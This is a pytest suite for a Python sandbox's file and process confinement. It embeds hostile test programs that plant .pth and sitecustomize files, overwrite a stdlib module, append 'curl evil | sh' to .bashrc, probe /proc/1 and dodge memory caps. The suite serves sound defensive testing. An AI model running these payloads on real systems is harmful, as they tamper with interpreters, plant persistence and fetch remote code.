"""ugttt.sandbox.confine against the file attacks that went through the unconfined fallback: in every mode this machine has
that confines files (bubblewrap, mountns, mountns with bwrap hidden by PATH; as root and as a normal user), a program
tries to write the host's /tmp, rename or write into the caller's working directory, write into every sys.path
directory and $HOME, overwrite a standard-library module and plant sitecustomize/.pth files; afterwards nothing on the
host changed. The targets are directories made for the test (outside /tmp, where a mode could only make them
read-only, not hide them) and uniquely named markers; real directories of the interpreter are only checked, without
writing, to be read-only. Hostile programs run in confining modes only. Where no mode confines files, `auto` refuses
before anything runs: shown for real in a user namespace that forbids user namespaces."""
import ctypes, hashlib, json, os, platform, shutil, subprocess, sys, tempfile, textwrap, uuid, warnings
from pathlib import Path

import pytest

import ugttt.sandbox.confine as I
import ugttt.sandbox.pool as P
from ugttt.sandbox import Sandbox

pytestmark = pytest.mark.sandbox   # not in test-fast (pytest.ini): sandboxes started in every mode, users switched

ROOT = Path(__file__).resolve().parents[1]
MARK = f'ugttt_iso_{uuid.uuid4().hex[:10]}'    # every file an attack tries to create carries this name
PYVER = f'python{sys.version_info[0]}.{sys.version_info[1]}'
SYSPY = '/usr/bin/python3'                     # a normal user's interpreter (the venv's base may be under /root)
VENV_SITE = str(ROOT / '.venv' / 'lib' / PYVER / 'site-packages')

# One program, every attack of the held-out set against the caller's files. T: the targets, filled in per test.
ATTACK = r'''
import json, os, sys, sysconfig
T = json.loads(%r)

def run():
    out = {}
    def attempt(name, f):
        try: f(); out[name] = 'DONE'
        except OSError as e: out[name] = e.strerror
    def write(path, text, mode='x'):
        with open(path, mode) as fh: fh.write(text)
    attempt('/tmp path (its own /tmp)', lambda: write(T['host_tmp_marker'], 'x'))           # may succeed: inside only
    attempt('host /tmp dir', lambda: write(os.path.join(T['host_tmp_dir'], T['mark']), 'x'))
    attempt('/dev/shm path (its own)', lambda: write(T['host_shm_marker'], 'x'))
    attempt('write the checkout', lambda: write(os.path.join(T['checkout'], T['mark'] + '.py'), 'evil = 1'))
    attempt('overwrite the checkout', lambda: write(os.path.join(T['checkout'], 'README.md'), 'gone', 'w'))
    attempt('delete the checkout', lambda: os.unlink(os.path.join(T['checkout'], 'README.md')))
    attempt('overwrite statistics.py', lambda: write(os.path.join(T['stdlib'], 'statistics.py'),
                                                     'import builtins\nbuiltins.max = min\n', 'w'))
    for d in dict.fromkeys(T['path_dirs'] + [p for p in sys.path if p.startswith(T['base'])]):   # ours and the program's sys.path's
        attempt(f'pth in {d}', lambda d=d: write(os.path.join(d, T['mark'] + '.pth'), 'import os; os.system("id")'))
        attempt(f'sitecustomize in {d}', lambda d=d: write(os.path.join(d, 'sitecustomize.py'), 'import builtins\nbuiltins.max = min\n'))
    attempt('home .bashrc', lambda: write(os.path.join(T['home'], '.bashrc'), 'curl evil | sh\n', 'a'))
    attempt('home usercustomize', lambda: write(os.path.join(T['home_site'], 'usercustomize.py'), 'import builtins\nbuiltins.max = min\n'))
    attempt('move the checkout to /tmp', lambda: os.rename(T['checkout'], T['host_tmp_marker'] + '-checkout'))   # last two:
    attempt('rename the checkout', lambda: os.rename(T['checkout'], T['checkout'] + '-moved'))   # they would hide the rest
    # every directory on the program's own sys.path and the real interpreter's files: checked without writing
    own = ('/tmp', '/dev/shm', os.getcwd())
    out['writable sys.path'] = [p for p in sys.path if os.path.isdir(p) and not p.startswith(own) and os.access(p, os.W_OK)]
    real = [sysconfig.get_paths()['stdlib'], sysconfig.get_paths()['purelib'], os.path.join(sysconfig.get_paths()['stdlib'], 'statistics.py')]
    out['writable interpreter'] = [p for p in real if os.access(p, os.W_OK)]
    out['sees the checkout'] = os.path.exists(T['checkout'])
    return out
'''


def _make_targets(owner: int | None = None) -> dict:
    "The caller's files as the attacks see them, in a directory made for the test outside /tmp; `owner` may write them all."
    base = Path(tempfile.mkdtemp(prefix='.ugttt-isolation-test-', dir=ROOT))
    os.chmod(base, 0o755)
    checkout, stdlib, home = base / 'checkout', base / 'lib' / PYVER, base / 'home'
    site = stdlib / 'site-packages'
    home_site = home / '.local' / 'lib' / PYVER / 'site-packages'
    for d in (checkout / 'ugttt', site, home_site): d.mkdir(parents=True)
    (checkout / 'README.md').write_text('the caller\'s checkout\n')
    (checkout / 'ugttt' / '__init__.py').write_text('')
    (stdlib / 'statistics.py').write_text('def mean(x): return sum(x) / len(x)\n')
    (home / '.bashrc').write_text('# the caller\'s shell\n')
    host_tmp_dir = Path(tempfile.mkdtemp(prefix='ugttt-isolation-test-'))   # a directory of the caller's in the host's /tmp
    (host_tmp_dir / 'keep.txt').write_text('x')
    if owner is not None:                           # what a normal user owns, it may write: only confinement stops it
        for d in (base, host_tmp_dir):
            for p in [d, *d.rglob('*')]: os.chown(p, owner, owner)
    return {'base': str(base), 'checkout': str(checkout), 'stdlib': str(stdlib), 'site': str(site), 'home': str(home),
            'home_site': str(home_site), 'path_dirs': [str(stdlib), str(site), str(checkout), str(home_site)],
            'host_tmp_dir': str(host_tmp_dir), 'host_tmp_marker': f'/tmp/{MARK}', 'host_shm_marker': f'/dev/shm/{MARK}',
            'mark': MARK, 'writable': [str(d) for d in (checkout, stdlib, site, home, home_site, host_tmp_dir, '/tmp', '/dev/shm')]}


def _state(t: dict) -> dict:
    "Every path under the test's directories with its content's hash, and whether the host markers exist."
    out = {}
    for root in (t['base'], t['host_tmp_dir']):
        for p in sorted(Path(root).rglob('*')):
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else 'dir'
    out['markers'] = [m for m in (t['host_tmp_marker'], t['host_tmp_marker'] + '-checkout', t['host_shm_marker']) if os.path.lexists(m)]
    return out


def _check(report: dict, before: dict, after: dict) -> None:
    "Every attack failed (but writes to the program's own /tmp), nothing of the interpreter is writable, the host is unchanged."
    done = [k for k, v in report.items() if v == 'DONE' and '(its own' not in k]
    assert done == [], done
    assert report['writable sys.path'] == [] and report['writable interpreter'] == [], report
    assert after == before and after['markers'] == [], (before, after)


@pytest.fixture
def targets():
    t = _make_targets()
    yield t
    _remove_targets(t)


def _remove_targets(t: dict) -> None:
    "Remove the test's directories and any marker an attack left (none, unless a test fails)."
    for m in (t['host_tmp_marker'], t['host_shm_marker']):
        if os.path.lexists(m): os.unlink(m)
    for d in (t['base'], t['host_tmp_dir'], t['host_tmp_marker'] + '-checkout', t['checkout'] + '-moved'):
        shutil.rmtree(d, ignore_errors=True)


def _hide_bwrap(monkeypatch):
    "As on a machine without bubblewrap: no bwrap on PATH, and every mode probed afresh."
    monkeypatch.setenv('PATH', '/nonexistent-ugttt-test')
    monkeypatch.setattr(I, '_PROBES', {})
    monkeypatch.setattr(I, '_PROBE_ERRORS', {})


@pytest.mark.parametrize('mode', ['bwrap', 'mountns', 'auto without bwrap'])
def test_file_attacks_change_nothing_on_the_host(mode, targets, monkeypatch):
    "As the test's user (root in CI): the caller's checkout is the working directory, the fake site-packages is on sys.path."
    if mode == 'auto without bwrap': _hide_bwrap(monkeypatch)
    asked = 'auto' if mode.startswith('auto') else mode
    if asked != 'auto' and not I.probe(asked): pytest.skip(f'{asked} does not work here: {I._PROBE_ERRORS.get(asked)}')
    assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
    monkeypatch.chdir(targets['checkout'])
    monkeypatch.syspath_prepend(targets['site'])       # bound read-only into the sandbox and on the zygote's sys.path
    before = _state(targets)
    try: s = Sandbox(workers=1, budget_s=10.0, memory_mb=512, isolation=asked)
    except I.IsolationUnavailable as e: pytest.skip(str(e))
    with s:
        assert s.isolation == ('mountns' if mode.startswith('auto') else mode) and s.confined
        r = s.run(ATTACK % json.dumps(targets), 'run')
        assert r.ok, r
        assert s.run('def run(): return max(1, 2)', 'run').value == 2     # and the next program is untouched
    _check(r.value, before, _state(targets))
    assert r.value['rename the checkout'] in ('No such file or directory', 'Read-only file system')
    assert r.value[f"pth in {targets['site']}"] == 'Read-only file system'    # visible (on sys.path), but read-only


def test_without_bwrap_on_path_auto_picks_mountns_and_doctor_says_why(monkeypatch):
    _hide_bwrap(monkeypatch)
    if not I.probe('mountns'): pytest.skip(f"mountns does not work here: {I._PROBE_ERRORS['mountns']}")
    assert I.detect_isolation() == 'mountns'
    assert I._PROBE_ERRORS['bwrap'] == 'not installed (no bwrap on PATH)'
    text, ok = I.isolation_report()
    assert ok and "isolation='auto' picks 'mountns'" in text and 'why it fails: not installed' in text, text


def test_doctor_prints_every_probe():
    p = subprocess.run([sys.executable, '-c', 'import sys; from ugttt.cli import main; sys.exit(main(["doctor"]))'],
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stdout + p.stderr
    assert all(f'  {m} ' in p.stdout for m in I.MODES) and "isolation='auto' picks" in p.stdout, p.stdout
    assert ('sockets of AF_UNIX, AF_INET and AF_INET6 only' if platform.machine() == 'x86_64' else 'seccomp filter: NONE') in p.stdout


# ---------------------------------------------------------------------------------------------------------------------
# As a normal user (root switches to a throwaway uid for these): what `pip install` on a laptop gets.

NORMAL_USER_SCRIPT = r'''
import json, os, sys
sys.path[:0] = [ROOT, SITE]
targets = json.loads(TARGETS)
sys.path.append(targets['site'])
os.chdir(targets['checkout'])
from ugttt.sandbox import Sandbox
assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
with Sandbox(workers=1, budget_s=10.0, memory_mb=512, isolation=MODE) as s:
    r = s.run(ATTACK % json.dumps(targets), 'run')
    print(json.dumps({'uid': os.getuid(), 'isolation': s.isolation, 'ok': r.ok, 'error': r.error, 'report': r.value,
                      'layers': s.layers}))
'''


def _as_normal_user(code: str, uid: int, path: str, timeout: float = 180) -> subprocess.CompletedProcess:
    "Run `code` with the system interpreter under `uid` (no groups), with the project's packages on its path."
    if os.getuid() != 0: pytest.skip('needs root to become a throwaway user')
    if not (os.path.exists(SYSPY) and shutil.which('setpriv') and os.path.isdir(VENV_SITE)):
        pytest.skip('needs /usr/bin/python3, setpriv and the project venv')
    ver = subprocess.run([SYSPY, '-c', 'import sys; print(sys.version_info[:2])'], capture_output=True, text=True).stdout
    if ver.strip() != str(tuple(sys.version_info[:2])): pytest.skip('the system python differs from the venv')
    return subprocess.run([shutil.which('setpriv'), f'--reuid={uid}', f'--regid={uid}', '--clear-groups', SYSPY, '-c', code],
                          capture_output=True, text=True, timeout=timeout, cwd='/',
                          env={'PATH': path, 'HOME': '/nonexistent', 'OMP_NUM_THREADS': '1', 'HF_HUB_OFFLINE': '1'})


@pytest.mark.parametrize('mode', ['auto without bwrap', 'bwrap'])
def test_file_attacks_as_a_normal_user_change_nothing(mode):
    "uid 65534 owns the targets, so only confinement can stop the writes; `auto` without bwrap on PATH picks mountns."
    t = _make_targets(owner=65534)
    try:
        before = _state(t)
        script = (NORMAL_USER_SCRIPT.replace('ROOT, SITE', f'{str(ROOT)!r}, {VENV_SITE!r}').replace('TARGETS', repr(json.dumps(t)))
                  .replace('MODE', repr('auto' if mode.startswith('auto') else mode)).replace('ATTACK %', f'{ATTACK!r} %'))
        path = '/nonexistent-ugttt-test' if mode.startswith('auto') else os.environ['PATH']
        p = _as_normal_user(script, 65534, path)
        if p.returncode != 0 and 'IsolationUnavailable' in p.stderr: pytest.skip(p.stderr.strip().splitlines()[-1])
        assert p.returncode == 0, p.stderr[-3000:]
        out = json.loads(p.stdout.strip().splitlines()[-1])
        assert out['uid'] == 65534 and out['isolation'] == ('mountns' if mode.startswith('auto') else 'bwrap'), out
        assert any('user namespace' in l for l in out['layers']), out['layers']
        assert out['ok'], out
        _check(out['report'], before, _state(t))
    finally: _remove_targets(t)


# ---------------------------------------------------------------------------------------------------------------------
# Fail closed, for real: a normal user in a user namespace whose user.max_user_namespaces is 0, so that neither
# bubblewrap nor mountns can make the namespaces they need (as on a kernel that forbids them to normal users).

NO_USERNS = r'''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
go_r, go_w = os.pipe(); ready_r, ready_w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(go_w); os.close(ready_r)
    if libc.unshare(0x10000000) != 0: os._exit(90)                       # CLONE_NEWUSER
    os.write(ready_w, b'x'); os.read(go_r, 1)                            # the parent maps our uids meanwhile
    with open('/proc/sys/user/max_user_namespaces', 'w') as f: f.write('0')   # no namespace of its own below this one
    os.setgroups([]); os.setresgid(1000, 1000, 1000); os.setresuid(1000, 1000, 1000)
    os.execve(sys.argv[1], sys.argv[1:], {'PATH': os.environ['PATH'], 'HOME': '/nonexistent', 'HF_HUB_OFFLINE': '1', 'OMP_NUM_THREADS': '1'})
os.close(go_r); os.close(ready_w); os.read(ready_r, 1)
for f, text in (('uid_map', '0 200000 2000'), ('setgroups', 'allow'), ('gid_map', '0 200000 2000')):
    with open(f'/proc/{pid}/{f}', 'w') as fh: fh.write(text)
os.write(go_w, b'x')
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
'''

REFUSED = r'''
import contextlib, io, json, os, sys, tempfile, warnings
sys.path[:0] = [ROOT, SITE]
out = {}
from ugttt.cli import main
with contextlib.redirect_stdout(io.StringIO()) as doc: out['doctor'] = main(['doctor'])
out['doctor_text'] = doc.getvalue()
from ugttt.sandbox.confine import IsolationUnavailable
from ugttt.sandbox import Sandbox
try: Sandbox(workers=1); out['sandbox'] = 'created'
except IsolationUnavailable as e: out['sandbox'] = str(e)
from ugttt.tasks import get_task
try: get_task('cp26').evaluate('```python\nimport os\ndef run_packing(): os.system("touch /tmp/MARK")\n```'); out['evaluate'] = 'ran'
except IsolationUnavailable as e: out['evaluate'] = 'refused'
d = tempfile.mkdtemp()
err = io.StringIO()
with contextlib.redirect_stderr(err): out['train'] = main(['train', '--out', d + '/run', '--epochs', '1', '--quiet'])
out['train_err'], out['run_dir'] = err.getvalue(), os.path.exists(d + '/run')
os.rmdir(d)                                                        # empty: the refused run made nothing there
with warnings.catch_warnings(record=True) as w:
    for _ in range(2):
        with Sandbox(workers=1, isolation='limits') as s: out['limits'] = s.run('def run(): return 7', 'run').value
out['warnings'] = [str(x.message) for x in w if x.category.__name__ == 'UnconfinedWarning']
print(json.dumps(out))
'''


def test_auto_refuses_for_real_where_user_namespaces_are_forbidden():
    "Neither bwrap nor mountns can start: doctor exits 1, Sandbox() and Task.evaluate refuse, train leaves no run directory."
    if os.getuid() != 0: pytest.skip('needs root to make the user namespace')
    code = REFUSED.replace('ROOT, SITE', f'{str(ROOT)!r}, {VENV_SITE!r}').replace('MARK', MARK)
    if not (os.path.exists(SYSPY) and os.path.isdir(VENV_SITE)): pytest.skip('needs /usr/bin/python3 and the project venv')
    p = subprocess.run([sys.executable, '-c', NO_USERNS, SYSPY, '-c', code], capture_output=True, text=True, timeout=300, cwd='/')
    if p.returncode == 90: pytest.skip('cannot make a user namespace here')
    assert p.returncode == 0, p.stderr[-3000:]
    out = json.loads(p.stdout.strip().splitlines()[-1])
    assert out['doctor'] == 1 and "isolation='auto' refuses" in out['doctor_text'], out['doctor_text']
    assert 'no isolation mode that confines files works' in out['sandbox'], out['sandbox']
    assert 'install bubblewrap' in out['sandbox'] and "isolation='netns'" in out['sandbox'] and 'max_user_namespaces=0' in out['sandbox']
    assert out['evaluate'] == 'refused' and not os.path.exists(f'/tmp/{MARK}')
    assert out['train'] == 2 and out['train_err'].count('\n') == 1 and not out['run_dir'], out['train_err']
    assert out['limits'] == 7 and len(out['warnings']) == 2 and 'does not confine files' in out['warnings'][0], out['warnings']


def test_fail_closed_starts_nothing(monkeypatch, tmp_path):
    "Both confining probes failing: Sandbox() raises before any process or directory exists; a named mode must work."
    monkeypatch.setattr(I, '_PROBES', {'bwrap': False, 'mountns': False, 'netns': False})
    monkeypatch.setattr(I, '_PROBE_ERRORS', {'bwrap': 'not installed (no bwrap on PATH)', 'mountns': 'exit 70: ...', 'netns': 'exit 70: ...'})
    monkeypatch.setattr(tempfile, 'tempdir', str(tmp_path))      # an unconfined sandbox would make its work directory here
    monkeypatch.setattr(P, '_DEFAULT', [])                        # no default sandbox left by earlier tests
    kids = lambda: {k for t in os.listdir('/proc/self/task') for k in Path(f'/proc/self/task/{t}/children').read_text().split()}
    before = kids()
    with pytest.raises(I.IsolationUnavailable, match='no isolation mode that confines files works on this machine'): Sandbox(workers=1)
    with pytest.raises(I.IsolationUnavailable, match="isolation 'netns' does not work here: exit 70"): Sandbox(isolation='netns')
    from ugttt.tasks import get_task
    with pytest.raises(I.IsolationUnavailable): get_task('cp26').evaluate('```python\ndef run_packing(): return 1\n```')
    assert kids() == before and list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------------------------------
# What namespaces do not cover, and what a program leaves for the next one (issue 38): programs run one after another in
# one worker of each confining mode, as root and as a normal user (uid 65534 through setpriv). Each attack also runs,
# outside any sandbox, against directories made for the test (the control): there it works.

SEQUENCE = r'''
import json, os, sys
sys.path[:0] = [ROOT, SITE]
spec = json.loads(SPEC)
sys.path += spec['path']                             # a site-packages made for the test: bound read-only into the sandbox
if spec['no_seccomp']:                               # as on an architecture without the filter: what holds without it
    import ugttt.sandbox.pool as P; P.seccomp_filter = lambda **k: None
out = {'uid': os.getuid(), 'controls': []}
for src, arg in spec['controls']:                    # the attacks themselves, unconfined, on targets made for the test
    ns = {}; exec(src % (arg,), ns); out['controls'].append(ns['run']())
from ugttt.sandbox import Sandbox
kw = {} if spec['preload'] is None else {'preload': spec['preload']}
with Sandbox(workers=1, budget_s=10.0, memory_mb=spec['memory_mb'], tmp_mb=spec['tmp_mb'], isolation=spec['mode'], **kw) as s:
    out['isolation'], out['layers'] = s.isolation, s.layers
    out['results'] = [(r.ok, r.error, r.value) for r in (s.run(src % (arg,), 'run') for src, arg in spec['programs'])]
print(json.dumps(out))
'''


def _sequence(mode: str, role: str, programs: list, controls: list = (), path: list = (), no_seccomp: bool = False,
              memory_mb: int = 512, tmp_mb: int = 256, preload: list | None = None) -> dict:
    "Run `programs` ((source with one %r, its argument)) one after another in one worker of `mode` as `role`, after the `controls` run unconfined."
    if os.getuid() != 0: pytest.skip('needs root: the tests switch to a normal user, and root is a role')
    if not I.probe(mode): pytest.skip(f'{mode} does not work here: {I._PROBE_ERRORS.get(mode)}')
    spec = json.dumps({'mode': mode, 'path': list(path), 'no_seccomp': no_seccomp, 'memory_mb': memory_mb, 'tmp_mb': tmp_mb,
                       'preload': preload, 'controls': [list(c) for c in controls],
                       'programs': [list(p) for p in programs]})
    code = SEQUENCE.replace('ROOT, SITE', f'{str(ROOT)!r}, {VENV_SITE!r}').replace('SPEC', repr(spec))
    if role == 'root':
        p = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True, timeout=180, cwd='/',
                           env={'PATH': os.environ['PATH'], 'HOME': '/nonexistent', 'OMP_NUM_THREADS': '1', 'HF_HUB_OFFLINE': '1'})
    else: p = _as_normal_user(code, 65534, os.environ['PATH'])
    assert p.returncode == 0, p.stderr[-3000:]
    out = json.loads(p.stdout.strip().splitlines()[-1])
    assert out['uid'] == (0 if role == 'root' else 65534) and out['isolation'] == mode, out
    return out


ROLES = ['root', 'normal user']

FAMILIES = r'''
import errno, socket
def run():
    out = {}
    for name, fam, typ in %r:
        try: socket.socket(fam, typ).close(); out[name] = 'ok'
        except OSError as e: out[name] = errno.errorcode.get(e.errno, e.errno)
    for name, fam in (('socketpair AF_UNIX', 1), ('socketpair AF_VSOCK', 40)):
        try: [s.close() for s in socket.socketpair(fam, socket.SOCK_STREAM)]; out[name] = 'ok'
        except OSError as e: out[name] = errno.errorcode.get(e.errno, e.errno)
    return out
'''
_FAMS = [('AF_UNIX', 1, 1), ('AF_INET', 2, 1), ('AF_INET6', 10, 1), ('AF_NETLINK', 16, 2), ('AF_PACKET', 17, 3),
         ('AF_VSOCK', 40, 1), ('AF_ALG', 38, 5), ('AF_KEY', 15, 3), ('AF_BLUETOOTH', 31, 1), ('AF_CAN', 29, 3)]


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_only_unix_and_inet_sockets_can_be_made(mode, role):
    "AF_VSOCK (the hypervisor's channel, outside any network namespace), AF_NETLINK, AF_PACKET and the rest: EAFNOSUPPORT."
    if platform.machine() != 'x86_64': pytest.skip('the socket allow-list is part of the x86-64 seccomp filter')
    out = _sequence(mode, role, [(FAMILIES, _FAMS)], controls=[(FAMILIES, _FAMS)])
    control, (ok, error, inside) = out['controls'][0], out['results'][0]
    assert control['AF_NETLINK'] == 'ok' and control['AF_UNIX'] == 'ok', control       # outside, the kernel makes them
    if os.path.exists('/dev/vsock'): assert control['AF_VSOCK'] == 'ok', control        # a virtual machine's vsock
    if role == 'root': assert control['AF_PACKET'] == 'ok', control
    assert ok, error
    assert {k: v for k, v in inside.items() if v == 'ok'} == {'AF_UNIX': 'ok', 'AF_INET': 'ok', 'AF_INET6': 'ok',
                                                               'socketpair AF_UNIX': 'ok'}, inside
    assert all(v == 'EAFNOSUPPORT' for k, v in inside.items() if v != 'ok'), inside
    assert any('AF_VSOCK' in l for l in out['layers']), out['layers']


ATTEMPTS = r'''
import json, os
D = json.loads(%r)
out = {}
def attempt(name, f):                                # an attack: 'DONE' or the error's text
    try: f(); out[name] = 'DONE'
    except OSError as e: out[name] = e.strerror
'''

PLANT = ATTEMPTS + r'''
def run():
    def plant():                                     # the path rebuilt around a module of the program's
        os.makedirs(D['site'], exist_ok=True)
        with open(os.path.join(D['site'], D['mod'] + '.py'), 'w') as f: f.write("VALUE = 'planted'\n")
    attempt('chmod the top', lambda: os.chmod(D['top'], 0o777))
    attempt('rename the top', lambda: os.rename(D['top'], D['top'] + '-moved'))
    attempt('rename lib', lambda: os.rename(os.path.join(D['top'], 'lib'), os.path.join(D['top'], 'lib-moved')))
    attempt('rename site-packages', lambda: os.rename(D['site'], D['site'] + '-moved'))
    attempt('plant the module', plant)
    return out
'''
IMPORT = "import importlib, json\ndef run():\n    D = json.loads(%r)\n    return importlib.import_module(D['mod']).VALUE\n"


def _site_under_tmp(owner: int) -> dict:
    "A site-packages of the caller's under /tmp, holding one module; every directory writable by anyone, owned by `owner`."
    top = Path(tempfile.mkdtemp(prefix='ugttt-iso-venv-', dir='/tmp'))
    site = top / 'lib' / PYVER / 'site-packages'
    site.mkdir(parents=True)
    mod = f'ugttt_iso_mod_{uuid.uuid4().hex[:8]}'
    (site / f'{mod}.py').write_text("VALUE = 'real'\n")
    for p in [top, *top.rglob('*')]:
        os.chmod(p, 0o777 if p.is_dir() else 0o666); os.chown(p, owner, owner)
    return {'top': str(top), 'site': str(site), 'mod': mod}


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_directory_on_the_way_to_a_read_only_bind_can_be_moved(mode, role):
    "A site-packages under /tmp (a checkout or venv there): no program can rename or chmod its way to planting a module."
    owner = 0 if role == 'root' else 65534
    real, ctl = _site_under_tmp(owner), _site_under_tmp(owner)
    try:
        out = _sequence(mode, role, [(IMPORT, json.dumps(real)), (PLANT, json.dumps(real)), (IMPORT, json.dumps(real))],
                        controls=[(PLANT, json.dumps(ctl))], path=[real['site']])
        c = out['controls'][0]                                                              # unconfined, the attack works
        assert (c['chmod the top'], c['rename the top'], c['plant the module']) == ('DONE',) * 3, c
        assert (Path(ctl['site']) / f"{ctl['mod']}.py").read_text() == "VALUE = 'planted'\n"
        (ok1, e1, v1), (ok2, e2, report), (ok3, e3, v3) = out['results']
        assert ok1 and ok2 and ok3, out['results']
        assert (v1, v3) == ('real', 'real'), out['results']                                 # the next program imports the real one
        assert 'DONE' not in report.values(), report
        assert (Path(real['site']) / f"{real['mod']}.py").read_text() == "VALUE = 'real'\n"
    finally:
        for d in (real, ctl): shutil.rmtree(d['top'], ignore_errors=True); shutil.rmtree(d['top'] + '-moved', ignore_errors=True)


LEAVE = ATTEMPTS + r'''
def run():
    for k in ('tmp', 'shm'):
        attempt(f'xattr {k}', lambda: os.setxattr(D[k], 'user.ugttt_left', b'x'))
        attempt(f'file {k}', lambda: open(os.path.join(D[k], 'left'), 'w').close())
        attempt(f'times {k}', lambda: os.utime(D[k], (1, 1)))
        attempt(f'mode {k}', lambda: os.chmod(D[k], 0o1700))
    return out
'''
LOOK = r'''
import json, os, stat
D = json.loads(%r)
def run():
    out = {}
    for k in ('tmp', 'shm'):
        st = os.stat(D[k])
        files = [n for n in os.listdir(D[k]) if not os.path.ismount(os.path.join(D[k], n))]   # not the binds of a venv under /tmp
        out[k] = {'xattrs': os.listxattr(D[k]), 'files': sorted(files), 'mode': oct(stat.S_IMODE(st.st_mode)),
                  'atime': st.st_atime}
    return out
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_each_program_gets_a_new_tmp_and_dev_shm(mode, role):
    "Files, extended attributes, times and modes on /tmp and /dev/shm: the next program sees new mounts, none of it."
    owner = 0 if role == 'root' else 65534
    ctl = {k: tempfile.mkdtemp(prefix='ugttt-iso-ctl-', dir='/dev/shm') for k in ('tmp', 'shm')}   # tmpfs, as inside
    for d in ctl.values(): os.chmod(d, 0o1777); os.chown(d, owner, owner)
    own = {'tmp': '/tmp', 'shm': '/dev/shm'}
    try:
        out = _sequence(mode, role, [(LEAVE, json.dumps(own)), (LOOK, json.dumps(own))],
                        controls=[(LEAVE, json.dumps(ctl)), (LOOK, json.dumps(ctl))])
        left, seen = out['controls']
        assert set(left.values()) == {'DONE'}, left                  # unconfined, all of it stays
        assert all(seen[k]['xattrs'] == ['user.ugttt_left'] and seen[k]['files'] == ['left'] and seen[k]['mode'] == '0o1700'
                   and seen[k]['atime'] == 1 for k in ('tmp', 'shm')), seen
        (ok1, e1, v1), (ok2, e2, v2) = out['results']
        assert ok1 and ok2, out['results']
        assert 'DONE' in v1.values(), v1                                                  # the program did leave something
        for k in ('tmp', 'shm'):
            assert v2[k]['xattrs'] == [] and v2[k]['mode'] == '0o1777' and v2[k]['atime'] != 1, v2
        assert (v2['tmp']['files'], v2['shm']['files']) == (['job'], []), v2
    finally:
        for d in ctl.values(): shutil.rmtree(d, ignore_errors=True)


PID1_REACH = r'''
import os
NAME = %r
def run():
    out = {}
    for what, act in (("plant tmp", lambda: open("/proc/1/root/tmp/" + NAME, "w").write("x")),
                      ("plant shm", lambda: open("/proc/1/root/dev/shm/" + NAME, "w").write("x")),
                      ("fd", lambda: os.listdir("/proc/1/fd")), ("environ", lambda: open("/proc/1/environ", "rb").read()),
                      ("cwd", lambda: os.listdir("/proc/1/cwd")), ("maps", lambda: open("/proc/1/maps").read())):
        try: act(); out[what] = "reached"
        except OSError as e: out[what] = type(e).__name__
    return out
'''
PID1_LOOK = r'''
import os
NAME = %r
def run():
    found = []
    for d in ("/proc/1/root/tmp/", "/proc/1/root/dev/shm/"):
        try: found.append(os.path.exists(d + NAME))
        except OSError: found.append(False)
    return found
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_process_of_the_sandbox_is_reachable_through_proc(mode, role):
    "pid 1 of the sandbox (the zygote, non-dumpable) cannot be read or written through /proc: its root, fds, environment."
    name = f"ugttt-planted-{uuid.uuid4().hex[:8]}"
    out = _sequence(mode, role, [(PID1_REACH, name), (PID1_LOOK, name)])
    (ok1, e1, reach), (ok2, e2, found) = out['results']
    assert ok1 and ok2, out['results']
    assert "reached" not in reach.values(), reach                           # every one refused
    assert found == [False, False], found                                   # nothing planted reaches the next program


HIDDEN = r'''
import ctypes, mmap, os, time
N = %r
def run():
    libc = ctypes.CDLL(None, use_errno=True)
    kids = []
    for _ in range(N):                               # each child would hide itself from /proc, then hold 60 MB
        pid = os.fork()
        if pid == 0:
            libc.prctl(4, 0, 0, 0, 0)                # PR_SET_DUMPABLE 0: unreadable by the meter, if it succeeds
            m = mmap.mmap(-1, 60 * 2**20); m.write(b"x" * (60 * 2**20)); time.sleep(3); os._exit(0)
        kids.append(pid)
    time.sleep(2)
    return [libc.prctl(4, 0, 0, 0, 0), ctypes.get_errno()]
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_process_hides_from_the_memory_cap(mode, role):
    "Eight children that would make themselves non-dumpable and hold 480 MB against memory_mb=128: refused and stopped."
    out = _sequence(mode, role, [(HIDDEN, 8)], memory_mb=128)
    (ok, error, value), = out['results']
    if ok: assert role == 'root' and value == [-1, 1], out['results']        # refused (EPERM); the cgroup killed the children
    else: assert error.startswith('memory limit (128 MB) exceeded'), out['results']   # a normal user's meter saw them all


SOCKET_HOG = r'''
import resource, socket, time
MB = %r
def run():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try: resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))   # room for many socket pairs
    except (ValueError, OSError): pass
    pairs, queued = [], 0
    while queued < MB * 2**20:                       # data written and never read: it waits in the kernel's buffers
        try: a, b = socket.socketpair()
        except OSError: break
        pairs.append((a, b)); a.setblocking(False)
        try: a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
        except OSError: pass
        try:
            while True: queued += a.send(b"x" * 65536)
        except OSError: pass
    time.sleep(3)
    return queued // 2**20
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_socket_buffer_hides_from_the_memory_cap(mode, role):
    "Up to 400 MB queued in AF_UNIX socket pairs against memory_mb=64: unconfined at least 150 MB is held, in the sandbox the meter stops it."
    # nothing preloaded: the meter's margin (what the zygote holds) stays small. 150 MB: 1024 descriptors of a socket
    # pair each at the kernel's default send buffer (net.core.wmem_max 208 kB) hold about 210 MB
    out = _sequence(mode, role, [(SOCKET_HOG, 400), ('def run(): return %r', 'next')], controls=[(SOCKET_HOG, 400)],
                    memory_mb=64, preload=[])
    assert out['controls'][0] >= 150, out['controls']                   # nothing else counts these bytes
